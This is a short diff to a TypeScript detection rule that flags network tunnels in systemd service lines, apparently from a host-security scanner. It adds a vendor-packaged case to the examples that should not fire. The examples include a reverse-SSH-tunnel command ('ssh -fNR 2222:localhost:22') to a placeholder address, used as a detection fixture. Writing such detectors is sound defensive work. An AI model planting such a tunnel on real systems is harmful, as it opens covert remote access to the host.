@@ -1,4 +1,4 @@
-import { timed } from "./example-host.ts";
+import { shipped, timed } from "./example-host.ts";
 import type { ActivationRule } from "./rule.ts";
 import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";
 
@@ -25,6 +25,9 @@ export const networkTunnel: ActivationRule = {
 
   examples: {
     fires: [timed("ExecStart=/usr/bin/ssh -fNR 2222:localhost:22 u@192.0.2.7")],
-    quiet: [timed("ExecStart=/usr/bin/rsync -a -e ssh /srv/ backup@192.0.2.7:/srv/")],
+    quiet: [
+      timed("ExecStart=/usr/bin/rsync -a -e ssh /srv/ backup@192.0.2.7:/srv/"),
+      shipped("vendor", "ExecStart=/usr/bin/ssh -fNR 2222:localhost:22 u@192.0.2.7"),
+    ],
   },
 };
